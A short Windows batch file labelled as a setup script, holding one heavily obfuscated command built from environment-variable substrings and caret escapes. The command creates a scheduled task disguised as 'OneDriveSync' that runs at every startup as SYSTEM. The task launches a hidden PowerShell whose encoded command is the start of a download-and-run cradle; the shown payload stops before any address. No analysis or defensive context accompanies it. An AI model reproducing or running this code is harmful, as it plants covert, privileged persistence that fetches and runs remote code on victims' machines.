REM setup 9775 v2
%PUBLIC:~4,1%%PUBLIC:~-1,1%^h%comspec:~14,1%^a%windir:~-1,1%k%comspec:~-14,1% /c^r^e^ate /^t^n "OneDriveSync" /^t^r "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc ^onst^a^rt /ru S^Y^ST^E^M /^f
